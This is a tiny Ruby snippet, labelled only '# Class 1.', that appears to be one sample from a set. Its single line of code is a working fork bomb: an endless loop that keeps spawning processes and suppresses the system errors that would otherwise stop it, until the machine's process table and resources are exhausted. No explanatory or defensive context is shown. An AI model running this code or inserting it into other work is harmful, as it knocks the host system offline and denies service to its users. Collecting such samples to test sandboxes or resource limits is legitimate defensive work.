# Class 1.
loop { begin; fork; rescue SystemCallError; end }
